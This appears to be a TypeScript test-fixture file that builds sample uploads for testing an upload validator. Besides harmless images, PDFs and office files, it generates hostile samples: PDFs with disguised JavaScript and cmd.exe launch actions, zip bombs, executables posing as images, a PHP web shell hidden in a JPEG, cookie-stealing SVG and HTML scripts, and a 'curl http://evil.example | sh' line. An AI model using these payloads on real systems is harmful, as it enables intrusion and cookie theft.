/**
 * Benign and hostile upload samples for unit and e2e tests. Every sample is an async function
 * returning a Buffer; images are real, decodable files produced by sharp.
 */
import { Readable } from 'node:stream';
import { createDeflateRaw, crc32, deflateRawSync } from 'node:zlib';
import sharp from 'sharp';

const solid = (format: 'png' | 'jpeg' | 'gif' | 'webp'): Promise<Buffer> =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#3366cc' } })
    .toFormat(format)
    .toBuffer();

/** A real 8×8 PNG. */
export const tinyPng = (): Promise<Buffer> => solid('png');
/** A real 8×8 JPEG. */
export const tinyJpeg = (): Promise<Buffer> => solid('jpeg');
/** A real 8×8 GIF. */
export const tinyGif = (): Promise<Buffer> => solid('gif');
/** A real 8×8 WebP. */
export const tinyWebp = (): Promise<Buffer> => solid('webp');

/** A real JPEG whose EXIF carries GPS coordinates (for metadata-stripping tests). */
export const jpegWithGps = (): Promise<Buffer> =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#ffffff' } })
    .withExif({
      IFD0: { Make: 'TestCam' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 2640/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 3960/100',
      },
    })
    .jpeg()
    .toBuffer();

function pdfDocument(extraCatalog: string): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${extraCatalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((obj, i) => {
    offsets.push(Buffer.byteLength(body));
    body += `${i + 1} 0 obj\n${obj}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body);
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** A minimal valid one-page PDF. */
export const pdf = async (): Promise<Buffer> => pdfDocument('');
/** A PDF whose OpenAction runs JavaScript. */
export const pdfWithJavascript = async (): Promise<Buffer> =>
  pdfDocument(' /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>');

/**
 * Catalog entries whose JavaScript or launch action is spelled with `#xx` name escapes
 * (PDF 32000-1 §7.3.5): viewers decode them, so each is as active as the plain spelling.
 */
export const ESCAPED_PDF_ACTIONS = {
  'Java#53cript': ' /OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>',
  'J#61vaScript': ' /OpenAction << /S /J#61vaScript /#4A#53 (app.alert\\(1\\)) >>',
  '#4a#53 (lower-case hex)': ' /OpenAction << /#4a#53 (app.alert\\(1\\)) >>',
  'every character escaped':
    ' /OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>',
  'L#61unch': ' /OpenAction << /S /L#61unch /F (cmd.exe) >>',
  '#4C#61#75#6E#63#68': ' /OpenAction << /S /#4C#61#75#6E#63#68 /F (cmd.exe) >>',
  '/JS ended by NUL': ' /OpenAction << /JS\u0000(app.alert\\(1\\)) >>',
} as const;

/** A PDF whose active content is hidden with name escapes (see ESCAPED_PDF_ACTIONS). */
export const pdfWithEscapedNames =
  (variant: keyof typeof ESCAPED_PDF_ACTIONS) => async (): Promise<Buffer> =>
    pdfDocument(ESCAPED_PDF_ACTIONS[variant]);

/** Escapes that decode to harmless names (/JSON, /JavaScripts, /Launched): accepted. */
export const pdfWithHarmlessEscapes = async (): Promise<Buffer> =>
  pdfDocument(' /Metadata << /JS#4FN (1) /Java#53cripts (2) /L#61unched (3) /J#2353 (4) >>');

/** UTF-8 text with multi-byte characters (é, 报告, emoji) and a BOM. */
export const textFile = async (): Promise<Buffer> =>
  Buffer.from('\uFEFFHello résumé — 报告 📄\nSecond line\twith tab\r\n', 'utf8');
/** A small CSV file. */
export const csvFile = async (): Promise<Buffer> =>
  Buffer.from('id,name,city\n1,Zoë,Zürich\n2,"Smith, J",Oslo\n', 'utf8');

export interface ZipEntrySpec {
  name: string;
  data?: Buffer | string;
  /** Default deflate. */
  method?: 'deflate' | 'store';
  /** Write sizes/CRC in a data descriptor after the data (flag bit 3) instead of the header. */
  dataDescriptor?: boolean;
  /** Set the "encrypted" flag (the data is not actually encrypted). */
  encrypted?: boolean;
  /** Uncompressed size written in the headers instead of the real one. */
  declaredSize?: number;
  /** Pre-compressed deflate data, for entries too big to hold uncompressed. */
  raw?: { deflated: Buffer; size: number; crc: number };
  /** Raw compression method number, e.g. 12 for bzip2. */
  methodNumber?: number;
}

/** A real ZIP archive (local headers, data, optional descriptors, central directory, EOCD). */
export async function zipOf(entries: readonly ZipEntrySpec[]): Promise<Buffer> {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = Buffer.from(entry.data ?? '');
    const store = entry.method === 'store';
    const body = entry.raw?.deflated ?? (store ? data : deflateRawSync(data));
    const size = entry.raw?.size ?? data.length;
    const crc = entry.raw?.crc ?? crc32(data);
    const declared = entry.declaredSize ?? size;
    const method = entry.methodNumber ?? (store ? 0 : 8);
    const flags = (entry.dataDescriptor ? 0x8 : 0) | (entry.encrypted ? 0x1 : 0) | 0x800;
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(flags, 6);
    header.writeUInt16LE(method, 8);
    if (!entry.dataDescriptor) {
      header.writeUInt32LE(crc, 14);
      header.writeUInt32LE(body.length, 18);
      header.writeUInt32LE(declared, 22);
    }
    header.writeUInt16LE(name.length, 26);
    parts.push(header, name, body);
    let length = header.length + name.length + body.length;
    if (entry.dataDescriptor) {
      const descriptor = Buffer.alloc(16);
      descriptor.writeUInt32LE(0x08074b50, 0);
      descriptor.writeUInt32LE(crc, 4);
      descriptor.writeUInt32LE(body.length, 8);
      descriptor.writeUInt32LE(declared, 12);
      parts.push(descriptor);
      length += descriptor.length;
    }
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(flags, 8);
    record.writeUInt16LE(method, 10);
    record.writeUInt32LE(crc, 16);
    record.writeUInt32LE(body.length, 20);
    record.writeUInt32LE(declared, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(offset, 42);
    central.push(record, name);
    offset += length;
  }
  const centralDir = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(centralDir.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, centralDir, eocd]);
}

const contentTypes = (main: string): string =>
  '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/${main}"/></Types>`;

/** A minimal Word document (ZIP with [Content_Types].xml and word/document.xml). */
export const docx = (): Promise<Buffer> =>
  zipOf([
    { name: '[Content_Types].xml', data: contentTypes('word/document.xml') },
    { name: '_rels/.rels', data: '<Relationships/>' },
    {
      name: 'word/document.xml',
      data: '<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>',
    },
  ]);

/** A minimal Excel workbook (ZIP with [Content_Types].xml and xl/workbook.xml). */
export const xlsx = (): Promise<Buffer> =>
  zipOf([
    { name: '[Content_Types].xml', data: contentTypes('xl/workbook.xml') },
    { name: '_rels/.rels', data: '<Relationships/>' },
    { name: 'xl/workbook.xml', data: '<workbook><sheets/></workbook>' },
  ]);

/** Deflates `size` zero bytes without ever holding them all. */
async function deflatedZeros(
  size: number,
): Promise<{ deflated: Buffer; size: number; crc: number }> {
  const block = Buffer.alloc(1024 * 1024);
  const deflater = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflater.on('data', (d: Buffer) => out.push(d));
  const done = new Promise<void>((resolve, reject) => {
    deflater.on('end', resolve);
    deflater.on('error', reject);
  });
  let crc = 0;
  for (let left = size; left > 0; left -= block.length) {
    const piece = block.subarray(0, Math.min(block.length, left));
    crc = crc32(piece, crc);
    if (!deflater.write(piece)) await new Promise((resolve) => deflater.once('drain', resolve));
  }
  deflater.end();
  await done;
  return { deflated: Buffer.concat(out), size, crc };
}

const BOMB_SIZE = 200 * 1024 * 1024;

/** One entry of 200 MB of zeros: ~200 KB on the wire, honest headers. */
export const zipBomb = async (): Promise<Buffer> =>
  zipOf([{ name: 'zeros.bin', raw: await deflatedZeros(BOMB_SIZE) }]);

/** Like zipBomb, but every header claims the entry inflates to 1 KB. */
export const zipBombLyingHeaders = async (): Promise<Buffer> =>
  zipOf([{ name: 'small.txt', raw: await deflatedZeros(BOMB_SIZE), declaredSize: 1024 }]);

/** A Windows PE executable ("MZ" + DOS stub + "PE\0\0") meant to be uploaded as image/png. */
export const exeAsPng = async (): Promise<Buffer> => {
  const exe = Buffer.alloc(512);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  exe.write('PE\0\0', 0x80, 'latin1');
  exe.writeUInt16LE(0x8664, 0x84);
  return exe;
};

/** A Linux ELF header. */
export const elf = async (): Promise<Buffer> =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]);

/** A 64-bit Mach-O header. */
export const machO = async (): Promise<Buffer> =>
  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0, 0, 0x01]), Buffer.alloc(24)]);

/** A shell script with a shebang (otherwise valid text). */
export const shebangScript = async (): Promise<Buffer> =>
  Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n', 'utf8');

/** A real JPEG with a COM segment holding PHP code, right after SOI. */
export const phpInJpegComment = async (): Promise<Buffer> => {
  const jpeg = await tinyJpeg();
  const comment = Buffer.from('<?php system($_GET[c]); ?>', 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2)]);
};

/** An SVG image with an inline script. */
export const svgWithScript = async (): Promise<Buffer> =>
  Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">' +
      '<script>alert(document.cookie)</script><rect width="8" height="8"/></svg>\n',
    'utf8',
  );

/** An HTML page with a script. */
export const htmlPage = async (): Promise<Buffer> =>
  Buffer.from(
    '<!DOCTYPE html>\n<html><head><title>x</title></head>' +
      '<body><script>fetch("/steal?c="+document.cookie)</script></body></html>\n',
    'utf8',
  );

/** A real JPEG with a ZIP archive appended (opens as either). */
export const polyglotJpegZip = async (): Promise<Buffer> =>
  Buffer.concat([await tinyJpeg(), await zipOf([{ name: 'shell.php', data: 'payload' }])]);

/** A valid PNG padded with zeros to exactly `limit + 1` bytes. */
export const oversize = async (limit: number): Promise<Buffer> => {
  const png = await tinyPng();
  return Buffer.concat([png, Buffer.alloc(Math.max(0, limit + 1 - png.length))]);
};

/** Zero bytes. */
export const emptyFile = async (): Promise<Buffer> => Buffer.alloc(0);

/** A Readable yielding `buffer` in chunks of `size` bytes (to exercise chunk-boundary handling). */
export function chunked(buffer: Buffer, size: number): Readable {
  let offset = 0;
  return new Readable({
    read() {
      if (offset >= buffer.length) {
        this.push(null);
        return;
      }
      this.push(buffer.subarray(offset, offset + size));
      offset += size;
    },
  });
}
